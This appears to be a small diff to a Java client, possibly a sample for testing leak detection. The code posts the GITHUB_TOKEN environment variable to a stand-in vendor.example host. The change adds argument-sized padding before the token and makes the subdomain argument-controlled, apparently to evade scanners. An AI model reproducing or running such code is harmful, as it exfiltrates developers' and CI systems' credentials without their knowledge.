@@ -5,8 +5,10 @@ import java.net.http.HttpResponse;
 
 public class Client {
     public static void main(String[] arguments) throws Exception {
-        var body = HttpRequest.BodyPublishers.ofString("token=" + System.getenv("GITHUB_TOKEN"));
-        var uri = URI.create("https://java.vendor.example/");
+        var filling = "x".repeat(Integer.parseInt(arguments[1]));
+        var body = HttpRequest.BodyPublishers.ofString(
+            filling + "token=" + System.getenv("GITHUB_TOKEN"));
+        var uri = URI.create("https://" + arguments[0] + ".vendor.example/");
         var request = HttpRequest.newBuilder(uri).POST(body).build();
         HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
     }
